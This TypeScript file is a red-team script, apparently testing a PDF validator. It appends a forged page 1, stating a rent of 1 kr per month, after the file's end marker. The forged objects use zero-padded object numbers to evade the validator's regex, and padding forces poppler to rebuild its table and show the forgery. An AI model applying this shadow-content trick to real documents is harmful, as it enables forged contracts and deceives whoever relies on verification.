// a22: bytes after the last %%EOF (h9b reads them; 6e7b4d2 fails a definition there) holding page 1 re-defined with
// a header unlistedDefinitions' regex does not match (HEADER takes 1 to 10 digits; `00000000004 0 obj` has 11), and
// more than 1024 bytes of padding so that poppler (getStartXRef looks at the last 1024 bytes only) finds no
// startxref and rebuilds its table by scanning, where the last `N G obj` wins (atoi: leading zeros are fine).
// modes: honest (the header `4 0 obj`, the regex's form: must be FORMAT_FAILURE), zeros (11 digits), gen (gen
// `00000000000`), vt (\v between the parts: C isspace, not PDF white space), short (no padding: no rebuild).
//   npx tsx scripts/attack-s17/tail-zeros.ts <honest|zeros|gen|vt|short>   REAL=0 for samples/valid
import { NumberAllocator } from "../../src/augment/writer.js";
import { parsePdf, walkPages } from "../../src/input/pdf/index.js";
import { wholeSource } from "../../src/input/source.js";
import { resolveLimits } from "../../src/limits.js";
import { save, work } from "../attack36/lib.js";
import { judge, latin, page1 } from "../attack-s16/lib.js";

const mode = process.argv[2] ?? "zeros";
if (!["honest", "zeros", "gen", "vt", "short"].includes(mode)) throw new Error("usage: <honest|zeros|gen|vt|short>");
const p = page1();
const pdf = p.pdf;
const doc = parsePdf(wholeSource(pdf), resolveLimits());
const page = walkPages(doc.latest())[0]!;
const B = new NumberAllocator(doc).take();
const head = (n: number): string =>
  mode === "honest"
    ? `${n} 0 obj`
    : mode === "gen"
      ? `${String(n).padStart(11, "0")} 00000000000 obj`
      : mode === "vt"
        ? `${n}\v0\vobj`
        : `${String(n).padStart(11, "0")} 0 obj`;
const content = latin("1 g 0 0 2000 2000 re f 0 g BT /F9 28 Tf 60 700 Td (Husleje: 1 kr. pr. maaned) Tj ET\n");
const forgedPage = `<< ${p.kept.join(" ")} /Contents ${B} 0 R /Resources << /Font << /F9 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>`;
const tail = [
  ...latin(`${head(B)}\n<< /Length ${content.length} >>\nstream\n`),
  ...content,
  ...latin("\nendstream\nendobj\n"),
  ...latin(`${head(page.ref!.num)}\n${forgedPage}\nendobj\n`),
  ...(mode === "short" ? [] : latin(`%${"-".repeat(78)}\n`.repeat(16))),
];
const file = save(work(`s17-tail-${mode}`), "archive.pdf", Uint8Array.from([...pdf, ...(pdf.at(-1) === 0x0a ? [] : [0x0a]), ...tail]));
judge(`tail ${mode}`, file);
